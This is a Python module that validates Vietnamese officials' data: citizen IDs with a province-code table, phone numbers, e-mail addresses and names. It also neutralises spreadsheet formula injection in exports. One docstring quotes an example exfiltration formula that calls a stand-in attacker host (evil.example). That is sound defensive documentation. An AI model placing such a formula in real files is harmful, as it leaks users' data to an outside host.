"""Validation and normalisation of officials' data, shared by CSV/XLSX import and SCIM.

Pure functions: no database, no I/O, no clock (``today`` is passed in, CONVENTIONS §4). Each
``normalise_*`` function returns the canonical value or raises :class:`core.errors.DomainError`
with ``field`` set to the account attribute concerned.

Error messages are English msgids marked with ``N_`` for ``pybabel extract``. A message that
names the wrong part carries ``%(name)s`` placeholders whose values are in ``error.params``;
whoever shows the message translates the msgid first, then fills it in:
``_(error.message) % error.params`` (see :func:`error_text` for the untranslated English).
"""

from __future__ import annotations

import re
import unicodedata
from dataclasses import dataclass
from datetime import date
from encodings import idna
from types import MappingProxyType
from typing import Literal

from core.errors import DomainError
from core.text_search import fold_for_search as fold_for_search  # re-exported
from core.web.i18n import N_

# --- Citizen ID (CCCD) ------------------------------------------------------------------------

CITIZEN_ID_LENGTH = 12
MAX_AGE_YEARS = 120  # older than any living person: the birth-year digits must be wrong

# Province codes of birth registration, the 63-province list in force when CCCDs were introduced
# (Circular 07/2016/TT-BCA, Art. 7, amended by Circular 06/2021/TT-BCA). The 2025 merger into 34
# provinces does not change the numbers already issued, so this list stays as it is.
CCCD_PROVINCES: MappingProxyType[str, str] = MappingProxyType(
    {
        "001": "Hà Nội",
        "002": "Hà Giang",
        "004": "Cao Bằng",
        "006": "Bắc Kạn",
        "008": "Tuyên Quang",
        "010": "Lào Cai",
        "011": "Điện Biên",
        "012": "Lai Châu",
        "014": "Sơn La",
        "015": "Yên Bái",
        "017": "Hòa Bình",
        "019": "Thái Nguyên",
        "020": "Lạng Sơn",
        "022": "Quảng Ninh",
        "024": "Bắc Giang",
        "025": "Phú Thọ",
        "026": "Vĩnh Phúc",
        "027": "Bắc Ninh",
        "030": "Hải Dương",
        "031": "Hải Phòng",
        "033": "Hưng Yên",
        "034": "Thái Bình",
        "035": "Hà Nam",
        "036": "Nam Định",
        "037": "Ninh Bình",
        "038": "Thanh Hóa",
        "040": "Nghệ An",
        "042": "Hà Tĩnh",
        "044": "Quảng Bình",
        "045": "Quảng Trị",
        "046": "Thừa Thiên Huế",
        "048": "Đà Nẵng",
        "049": "Quảng Nam",
        "051": "Quảng Ngãi",
        "052": "Bình Định",
        "054": "Phú Yên",
        "056": "Khánh Hòa",
        "058": "Ninh Thuận",
        "060": "Bình Thuận",
        "062": "Kon Tum",
        "064": "Gia Lai",
        "066": "Đắk Lắk",
        "067": "Đắk Nông",
        "068": "Lâm Đồng",
        "070": "Bình Phước",
        "072": "Tây Ninh",
        "074": "Bình Dương",
        "075": "Đồng Nai",
        "077": "Bà Rịa - Vũng Tàu",
        "079": "Hồ Chí Minh",
        "080": "Long An",
        "082": "Tiền Giang",
        "083": "Bến Tre",
        "084": "Trà Vinh",
        "086": "Vĩnh Long",
        "087": "Đồng Tháp",
        "089": "An Giang",
        "091": "Kiên Giang",
        "092": "Cần Thơ",
        "093": "Hậu Giang",
        "094": "Sóc Trăng",
        "095": "Bạc Liêu",
        "096": "Cà Mau",
    }
)

Gender = Literal["male", "female"]


@dataclass(frozen=True)
class CitizenIdFacts:
    """What the first six digits of a CCCD say about its holder."""

    province_code: str  # three digits, a key of CCCD_PROVINCES
    gender: Gender
    birth_year: int

    @property
    def province_name(self) -> str:
        return CCCD_PROVINCES[self.province_code]


_TWELVE_ASCII_DIGITS = re.compile(r"[0-9]{12}")


def citizen_id_facts(cccd: str) -> CitizenIdFacts:
    """Read province, gender and birth year from a 12-digit CCCD (Circular 07/2016/TT-BCA Art. 7).

    Digits 1-3: province of birth registration; digit 4: century and gender (0/1 = 1900s
    male/female, 2/3 = 2000s, 4/5 = 2100s, 6/7 = 2200s, 8/9 = 2300s); digits 5-6: the last two
    digits of the birth year. Raises :class:`DomainError` when the number is not 12 ASCII digits
    or the province code is unknown. The birth year is not compared with today here; see
    :func:`normalise_citizen_id`.
    """
    if not _TWELVE_ASCII_DIGITS.fullmatch(cccd):
        raise DomainError(
            N_("A citizen ID (CCCD) is exactly 12 digits."),
            field="citizen_id",
        )
    province_code = cccd[:3]
    if province_code not in CCCD_PROVINCES:
        raise DomainError(
            N_("Unknown province code %(code)s in the citizen ID."),
            field="citizen_id",
            code=province_code,
        )
    century_gender = int(cccd[3])  # every digit 0-9 has a meaning, so no further check
    century_start = 1900 + (century_gender // 2) * 100
    return CitizenIdFacts(
        province_code=province_code,
        gender="male" if century_gender % 2 == 0 else "female",
        birth_year=century_start + int(cccd[4:6]),
    )


def normalise_citizen_id(raw: str, *, today: date) -> str:
    """Return the 12-digit CCCD, spaces removed, after checking its prefix and birth year.

    Refuses: anything but 12 ASCII digits once spaces are removed (an 11-digit number gets a
    hint: spreadsheets drop the leading zero when the column is numeric); a province code not in
    :data:`CCCD_PROVINCES`; a birth year after ``today``'s year or more than
    :data:`MAX_AGE_YEARS` before it (the century digit is then the likely typo).
    """
    cccd = "".join(raw.split())
    if not cccd:
        raise DomainError(N_("The citizen ID is required."), field="citizen_id")
    if not cccd.isascii() or not cccd.isdigit():
        raise DomainError(
            N_("A citizen ID (CCCD) has digits only; remove the other characters."),
            field="citizen_id",
        )
    if len(cccd) == CITIZEN_ID_LENGTH - 1:
        raise DomainError(
            N_(
                "The citizen ID has 11 digits instead of 12; a spreadsheet may have dropped "
                "the leading zero (format the column as text)."
            ),
            field="citizen_id",
        )
    if len(cccd) != CITIZEN_ID_LENGTH:
        raise DomainError(
            N_("The citizen ID has %(count)s digits; a citizen ID (CCCD) has exactly 12."),
            field="citizen_id",
            count=len(cccd),
        )
    facts = citizen_id_facts(cccd)
    if facts.birth_year > today.year:
        raise DomainError(
            N_(
                "The citizen ID gives a birth year of %(year)s, which is in the future; "
                "check the 4th digit (century and gender) and the 5th and 6th (year)."
            ),
            field="citizen_id",
            year=facts.birth_year,
        )
    if today.year - facts.birth_year > MAX_AGE_YEARS:
        raise DomainError(
            N_(
                "The citizen ID gives a birth year of %(year)s, more than 120 years ago; "
                "check the 4th digit (century and gender) and the 5th and 6th (year)."
            ),
            field="citizen_id",
            year=facts.birth_year,
        )
    return cccd


# --- Phone --------------------------------------------------------------------------------------

COUNTRY_CODE = "84"
MOBILE_FIRST_DIGITS = frozenset("35789")  # 03x, 05x, 07x, 08x, 09x since the 2018 renumbering
MOBILE_NSN_LENGTH = 9  # national significant number, without the trunk 0: 0912 345 678
LANDLINE_NSN_LENGTH = 10  # area code 2xx + 7 digits: 024 3825 1234

# Separators people type between digit groups; anything else (letters, "/", "ext") is refused.
_PHONE_SEPARATORS = re.compile(r"[\s.\-()]")


def normalise_phone(raw: str) -> str:
    """Return a Vietnamese phone number in E.164 form (``+84`` and the national number).

    Accepts a national number with its trunk 0 ("0912 345 678", "0912.345.678",
    "024 3825 1234") or an international one ("+84 912345678", "84912345678", "0084 912 345 678",
    "(+84) 912-345-678"); an extra trunk 0 after the country code ("+84 (0)912 ...") is dropped.
    Spaces, dots, hyphens and parentheses between digits are ignored.

    Valid numbers: mobiles 03x, 05x, 07x, 08x, 09x (10 digits with the 0) and landlines whose
    area code is 2xx (11 digits with the 0). Numbers of other countries are refused.
    """
    text = raw.strip()
    if not text:
        raise DomainError(N_("The phone number is required."), field="phone")
    compact = _PHONE_SEPARATORS.sub("", text)
    if compact.startswith("+"):
        international, digits = True, compact[1:]
    elif compact.startswith("00"):
        international, digits = True, compact[2:]
    else:
        international, digits = False, compact
    if not digits.isascii() or not digits.isdigit():
        raise DomainError(
            N_(
                "A phone number has digits only, with an optional leading +; spaces, dots, "
                "hyphens and parentheses are allowed between the digits."
            ),
            field="phone",
        )
    if international or digits.startswith(COUNTRY_CODE):
        # "84912345678" is unambiguous: a national number always starts with its trunk 0.
        if not digits.startswith(COUNTRY_CODE):
            raise DomainError(
                N_("Only Vietnamese phone numbers (+84) are accepted."),
                field="phone",
            )
        national = digits[len(COUNTRY_CODE) :]
        if national.startswith("0"):
            national = national[1:]
    elif digits.startswith("0"):
        national = digits[1:]
    else:
        raise DomainError(
            N_(
                "A phone number starts with 0 or +84; a spreadsheet may have dropped the "
                "leading zero (format the column as text)."
            ),
            field="phone",
        )
    first = national[:1]
    if first in MOBILE_FIRST_DIGITS:
        expected = MOBILE_NSN_LENGTH
    elif first == "2":
        expected = LANDLINE_NSN_LENGTH
    else:
        raise DomainError(
            N_(
                "A Vietnamese phone number starts with 03, 05, 07, 08 or 09 (mobile) or "
                "02 (landline) after the leading 0."
            ),
            field="phone",
        )
    if len(national) != expected and expected == MOBILE_NSN_LENGTH:
        raise DomainError(
            N_("A Vietnamese mobile number has 10 digits with the leading 0; %(count)s given."),
            field="phone",
            count=len(national) + 1,
        )
    if len(national) != expected:
        raise DomainError(
            N_("A Vietnamese landline number has 11 digits with the leading 0; %(count)s given."),
            field="phone",
            count=len(national) + 1,
        )
    return f"+{COUNTRY_CODE}{national}"


# --- E-mail -------------------------------------------------------------------------------------

MAX_EMAIL_LENGTH = 254  # RFC 5321 §4.5.3.1.3 path limit minus the angle brackets
MAX_LOCAL_PART_LENGTH = 64  # RFC 5321 §4.5.3.1.1
# RFC 5322 §3.2.3 atext in a dot-atom; quoted local parts ("a b"@x) are refused on purpose.
_LOCAL_PART = re.compile(r"[A-Za-z0-9!#$%&'*+/=?^_`{|}~-]+(?:\.[A-Za-z0-9!#$%&'*+/=?^_`{|}~-]+)*")
# One ASCII (A-label) domain label, RFC 1035 §2.3.1 as relaxed by RFC 1123 §2.1.
_DOMAIN_LABEL = re.compile(r"[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?")


def normalise_email(raw: str) -> str:
    """Return the e-mail address trimmed, with its domain lowercased and in ASCII.

    The local part (before the @) is kept exactly as given: RFC 5321 §2.4 lets a server treat it
    case-sensitively. It must be an ASCII dot-atom (RFC 5322 §3.2.3); quoted local parts and
    non-ASCII local parts (RFC 6531) are refused because not every mail server delivers them.

    A Unicode domain such as ``ubnd.xãhòa.vn`` is **accepted and IDNA-encoded** to its A-label
    form (``xn--...``) with the standard library's IDNA 2003 codec (nameprep, then punycode), so
    no new dependency is needed and the stored address works with every SMTP server. For
    Vietnamese letters IDNA 2003 and 2008 give the same A-labels.

    Refuses: spaces anywhere, not exactly one @, an empty part, no dot in the domain, an invalid
    domain label, more than 64 characters before the @ or 254 in all (counted after encoding).
    """
    email = raw.strip()
    if not email:
        raise DomainError(N_("The e-mail address is required."), field="email")
    if any(ch.isspace() for ch in email):
        raise DomainError(N_("An e-mail address cannot contain spaces."), field="email")
    if email.count("@") != 1:
        raise DomainError(N_("An e-mail address has exactly one @."), field="email")
    local, domain = email.split("@")
    if not local or not domain:
        raise DomainError(
            N_("An e-mail address needs a name before the @ and a domain after it."),
            field="email",
        )
    if len(local) > MAX_LOCAL_PART_LENGTH or not _LOCAL_PART.fullmatch(local):
        raise DomainError(
            N_(
                "The part before the @ is at most 64 characters: unaccented letters, digits "
                "and . _ - + (no dot at the start or end, no two dots in a row)."
            ),
            field="email",
        )
    domain = _ascii_domain(domain)
    email = f"{local}@{domain}"
    if len(email) > MAX_EMAIL_LENGTH:
        raise DomainError(
            N_("An e-mail address is at most 254 characters long."),
            field="email",
        )
    return email


def _ascii_domain(domain: str) -> str:
    if domain.endswith("."):  # a root-anchored "example.vn." is the same domain
        domain = domain[:-1]
    labels = domain.split(".")
    if len(labels) < 2:
        raise DomainError(
            N_("The domain of an e-mail address has a dot, as in example.gov.vn."),
            field="email",
        )
    encoded = []
    for label in labels:
        if label.isascii():
            ascii_label = label.lower()
        else:
            try:
                ascii_label = idna.ToASCII(label).decode("ascii").lower()
            except UnicodeError:
                ascii_label = ""
        if not _DOMAIN_LABEL.fullmatch(ascii_label):
            raise DomainError(
                N_("The domain %(domain)s of the e-mail address is not valid."),
                field="email",
                domain=domain,
            )
        encoded.append(ascii_label)
    if encoded[-1].isdigit():  # a top-level domain is never all digits (RFC 3696 §2)
        raise DomainError(
            N_("The domain %(domain)s of the e-mail address is not valid."),
            field="email",
            domain=domain,
        )
    return ".".join(encoded)


# --- Full name ----------------------------------------------------------------------------------

MIN_FULL_NAME_LENGTH = 2
MAX_FULL_NAME_LENGTH = 200
_NAME_PUNCTUATION = frozenset("-'’")  # hyphen, apostrophe and its typographic form


def normalise_full_name(raw: str) -> str:
    """Return the full name in NFC with single spaces, e.g. "Nguyễn  Văn An " -> "Nguyễn Văn An".

    Letters of any script (with their combining marks), spaces, hyphens and apostrophes only,
    2 to 200 characters, starting with a letter. Digits are refused, and so is a name starting
    with = + - @ so that a name can never be read as a spreadsheet formula (OWASP CSV injection).
    """
    name = " ".join(unicodedata.normalize("NFC", raw).split())
    if not name:
        raise DomainError(N_("The full name is required."), field="full_name")
    if is_formula_like(name):
        raise DomainError(
            N_("A full name cannot start with =, +, - or @."),
            field="full_name",
        )
    previous = ""
    for ch in name:
        category = unicodedata.category(ch)
        if category.startswith("L") or ch == " " or ch in _NAME_PUNCTUATION:
            previous = category
            continue
        if category.startswith("M") and previous[:1] in {"L", "M"}:
            previous = category
            continue  # a mark left after NFC (Thai, Devanagari vowel signs) on its letter
        if category == "Nd" or ch.isdigit():
            raise DomainError(N_("A full name cannot contain digits."), field="full_name")
        raise DomainError(
            N_(
                "A full name has letters, spaces, hyphens and apostrophes only; "
                "%(character)s is not allowed."
            ),
            field="full_name",
            character=f"“{ch}” (U+{ord(ch):04X})",
        )
    if not unicodedata.category(name[0]).startswith("L"):
        raise DomainError(N_("A full name starts with a letter."), field="full_name")
    length = len(name)
    if length < MIN_FULL_NAME_LENGTH:
        raise DomainError(N_("A full name has at least 2 characters."), field="full_name")
    if length > MAX_FULL_NAME_LENGTH:
        raise DomainError(N_("A full name has at most 200 characters."), field="full_name")
    return name


# --- Search -------------------------------------------------------------------------------------

# fold_for_search lives in core.text_search (ca_admin searches names too); re-exported here.


# --- Formula injection in exported files ---------------------------------------------------------

# OWASP "CSV Injection": spreadsheet programs run a cell starting with one of these as a formula
# (=HYPERLINK(...), +cmd|..., -2+3, @SUM(...)); tab and carriage return hide such a prefix.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(cell: str) -> bool:
    """True when a spreadsheet could evaluate ``cell`` as a formula (OWASP CSV Injection)."""
    return cell.startswith(FORMULA_PREFIXES)


def neutralise_formula(cell: str) -> str:
    """Prefix a formula-like cell with ``'`` before writing it to a CSV or XLSX export.

    Why: an export opened in Excel or LibreOffice would otherwise run a name or a note such as
    ``=HYPERLINK("http://evil.example/?"&A1)`` as a formula, leaking data or launching commands
    (OWASP CSV Injection). The leading single quote makes the program show the cell as text.
    Only for files we write: stored values are never altered, and a legitimate value that starts
    with ``-`` or ``+`` (a phone number in +84 form) is shown with a visible quote. Idempotent:
    a neutralised cell starts with ``'`` and is not neutralised again.
    """
    return f"'{cell}" if is_formula_like(cell) else cell


def error_text(error: DomainError) -> str:
    """The English message of ``error`` with its parameters filled in (for logs and tests)."""
    return error.text()
